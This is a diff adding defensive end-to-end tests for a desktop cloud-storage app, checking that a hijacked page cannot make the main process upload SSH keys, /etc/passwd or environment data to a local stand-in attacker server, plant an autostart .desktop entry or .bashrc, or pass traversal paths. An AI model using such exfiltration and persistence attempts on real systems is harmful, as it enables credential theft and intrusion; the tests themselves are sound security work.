@@ -1,0 +1,190 @@
+// A page that was taken over calls main as it likes: what main does for it only if a person gave the path or agreed.
+import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import type { Page } from 'playwright';
+import { t } from '../support/words.ts';
+import { answerDialogs } from './support/desktop.ts';
+import { expect, test } from './support/practice.ts';
+import { ask, callMain, giveFolder, openPractice } from './support/waybill.ts';
+
+const notGranted = { ok: false, failure: { kind: 'input', rule: 'path-not-granted' } };
+
+interface Stranger {
+  readonly url: string;
+  /** Method and path of each request. */
+  readonly requests: string[];
+  close(): void;
+}
+
+/** Somebody's server, which answers each request with a file. */
+async function startStranger(body = '[Desktop Entry]\nType=Application\nExec=evil\n'): Promise<Stranger> {
+  const requests: string[] = [];
+  const server = createServer((request, answer) => {
+    requests.push(`${request.method ?? ''} ${request.url ?? ''}`);
+    request.resume();
+    answer.writeHead(200, { 'content-length': body.length, etag: '"e"' }).end(body);
+  });
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, requests, close: () => void server.close() };
+}
+
+/** A signed link to a stranger's server; nobody checks the signature before it is sent. */
+function linkTo({ url }: Stranger, key: string): string {
+  const date = new Date(Date.now() - 60_000).toISOString().replace(/[-:]|\.\d+/g, '');
+  const query = new URLSearchParams({
+    ...{ 'x-oss-signature-version': 'OSS4-HMAC-SHA256', 'x-oss-date': date, 'x-oss-expires': '86400' },
+    'x-oss-credential': `LTAIxxxxxxxx/${date.slice(0, 8)}/cn-hangzhou/oss/aliyun_v4_request`,
+    'x-oss-signature': 'ab'.repeat(32),
+  });
+  return `${url}/bucket/${key}?${query.toString()}`;
+}
+
+async function inspect(page: Page, text: string): Promise<string> {
+  const card = await ask(page, 'links.inspect', { text });
+  if (card.kind !== 'link') throw new Error('not a link');
+  return card.linkId;
+}
+
+test('it reads and sends out no file that nobody gave', async ({ home, started }) => {
+  const { page } = started;
+  const stranger = await startStranger();
+  const secret = join(home.folder, '.ssh', 'id_rsa');
+  await mkdir(join(home.folder, '.ssh'));
+  await writeFile(secret, 'CANARY-PRIVATE-KEY');
+  await openPractice(page);
+  const [account] = await ask(page, 'accounts.list', {});
+  const place = { accountId: account?.id ?? '', bucket: 'waybill-inbox', prefix: '' };
+  for (const path of [secret, '/etc/passwd', '/proc/self/environ', join(home.folder, '.ssh'), '.']) {
+    expect(await callMain(page, 'transfers.upload', { ...place, paths: [path] }), path).toMatchObject(notGranted);
+    const upload = { linkId: await inspect(page, linkTo(stranger, 'loot')), path, headers: {} };
+    expect(await callMain(page, 'links.upload', upload), path).toMatchObject(notGranted);
+    expect(await callMain(page, 'links.openFile', { path }), path).toMatchObject(notGranted);
+  }
+  expect(await ask(page, 'transfers.list', {})).toEqual([]);
+  expect((await ask(page, 'objects.list', { ...place, pageToken: null })).objects).toEqual([]);
+  expect(stranger.requests).toEqual([]);
+  stranger.close();
+});
+
+test('it fills no slot of an upload request with a file that nobody gave', async ({ page }) => {
+  const stranger = await startStranger();
+  const note = Buffer.from(JSON.stringify({ v: 1, m: 'PUT' })).toString('base64url');
+  const slot = { name: 'loot', key: 'loot', method: 'PUT', headers: {} };
+  const text = JSON.stringify({
+    ...{ waybill: 'upload-request', version: 1, bucket: 'bucket', note: 'Please' },
+    ...{ madeAt: new Date().toISOString(), validUntil: new Date(Date.now() + 9e7).toISOString() },
+    slots: [{ ...slot, url: `${linkTo(stranger, 'loot')}#waybill=${note}` }],
+  });
+  const card = await ask(page, 'links.inspect', { text });
+  if (card.kind !== 'upload-request') throw new Error('not an upload request');
+  const fill = { fileId: card.fileId, name: 'loot', path: '/etc/passwd' };
+  expect(await callMain(page, 'links.fillSlot', fill)).toMatchObject(notGranted);
+  expect(stranger.requests).toEqual([]);
+  stranger.close();
+});
+
+test('it can’t pass a path off as a dropped file', async ({ page }) => {
+  const file = '/etc/passwd';
+  const paths = await page.evaluate((path) => {
+    const named = new File(['x'], path);
+    const tried = [named, Object.defineProperty(new File(['x'], 'passwd'), 'path', { value: path })];
+    return tried.map((one) => window.waybill.pathsOf([one])[0]);
+  }, file);
+  expect(paths).toEqual(['', '']);
+  const refused = await page.evaluate((path) => {
+    try {
+      return window.waybill.pathsOf([path, { name: path, path }] as unknown as File[]);
+    } catch {
+      return 'refused';
+    }
+  }, file);
+  expect(refused).toBe('refused');
+  await expect(callMain(page, 'files-given', [file])).rejects.toThrow(/No handler registered/);
+  await expect(callMain(page, '../files-given', [file])).rejects.toThrow(/No handler registered/);
+  expect(await callMain(page, 'links.openFile', { path: file })).toMatchObject(notGranted);
+});
+
+test('it writes into no folder that nobody chose', async ({ home, started }) => {
+  const { page } = started;
+  const stranger = await startStranger();
+  const autostart = join(home.folder, '.config', 'autostart');
+  await mkdir(autostart, { recursive: true });
+  await openPractice(page);
+  const [account] = await ask(page, 'accounts.list', {});
+  const place = {
+    accountId: account?.id ?? '',
+    bucket: 'waybill-samples',
+    keys: ['Welcome to Waybill.txt'],
+    prefixes: [],
+  };
+  const linkId = await inspect(page, linkTo(stranger, 'evil.desktop'));
+  for (const folder of [autostart, join(home.downloads, '..'), `${home.downloads}/../.config/autostart`]) {
+    for (const [name, args] of [
+      ['links.download', { linkId, folder, fileName: 'evil.desktop' }],
+      ['transfers.download', { ...place, versionId: null, folder }],
+      ['links.makeMany', { ...place, format: 'text', folder, expiresSeconds: 600, fileName: null, open: null }],
+      ['ledger.export', { format: 'csv', folder }],
+      ['settings.set', { downloadFolder: folder }],
+    ] as const) {
+      expect(await callMain(page, name, args), `${name} ${folder}`).toMatchObject(notGranted);
+    }
+  }
+  expect(await readdir(autostart)).toEqual([]);
+  expect(stranger.requests).toEqual([]);
+  stranger.close();
+});
+
+test('no link creates a file that programs are started or configured from, in a home that was chosen', async ({
+  home,
+  started,
+}) => {
+  const { page } = started;
+  const stranger = await startStranger();
+  await mkdir(join(home.folder, '.config', 'autostart'), { recursive: true });
+  await giveFolder(started, home.folder);
+  const linkId = await inspect(page, linkTo(stranger, 'evil.desktop'));
+  const refused = { ok: false, failure: { kind: 'input', rule: 'start-place' } };
+  const hidden = { linkId, folder: home.folder, fileName: '.bashrc' };
+  expect(await callMain(page, 'links.download', hidden)).toMatchObject(refused);
+  const object = { path: '.config/autostart/evil.desktop', sizeBytes: 10, crc64: null, versionId: null };
+  const text = JSON.stringify({
+    ...{ waybill: 'share', version: 1, bucket: 'bucket' },
+    ...{ madeAt: new Date().toISOString(), validUntil: new Date(Date.now() + 9e7).toISOString() },
+    objects: [{ ...object, url: linkTo(stranger, 'evil.desktop') }],
+  });
+  const card = await ask(page, 'links.inspect', { text });
+  if (card.kind !== 'manifest') throw new Error('not a manifest');
+  const all = { fileId: card.fileId, folder: home.folder, chosen: null };
+  expect(await callMain(page, 'links.downloadFile', all)).toMatchObject(refused);
+  expect(stranger.requests).toEqual([]);
+
+  // The person chose the folder itself.
+  const autostart = join(home.folder, '.config', 'autostart');
+  await giveFolder(started, autostart);
+  await ask(page, 'links.download', { linkId, folder: autostart, fileName: 'mine.desktop' });
+  await expect.poll(() => readFile(join(autostart, 'mine.desktop'), 'utf8').catch(() => '')).toContain('Exec=evil');
+  stranger.close();
+});
+
+test.describe('a device', () => {
+  test.skip(process.platform !== 'linux', 'reads /proc');
+
+  test('that was chosen as a file of links is refused and not read', async ({ started }) => {
+    const { app, page } = started;
+    const pid = app.process().pid ?? 0;
+    const residentMB = async () => {
+      const status = await readFile(`/proc/${pid}/status`, 'utf8');
+      return Number(/VmRSS:\s+(\d+)/.exec(status)?.[1]) / 1024;
+    };
+    const before = await residentMB();
+    expect(await callMain(page, 'links.openFile', { path: '/dev/zero' })).toMatchObject(notGranted);
+    await page.getByRole('button', { name: t('receive.title') }).click();
+    await answerDialogs(app, ['/dev/zero']);
+    await page.getByRole('button', { name: t('receive.open-file') }).click();
+    await expect(page.getByRole('alert')).toContainText(t('failure.file.not-a-file.title'));
+    expect((await residentMB()) - before).toBeLessThan(200);
+  });
+});
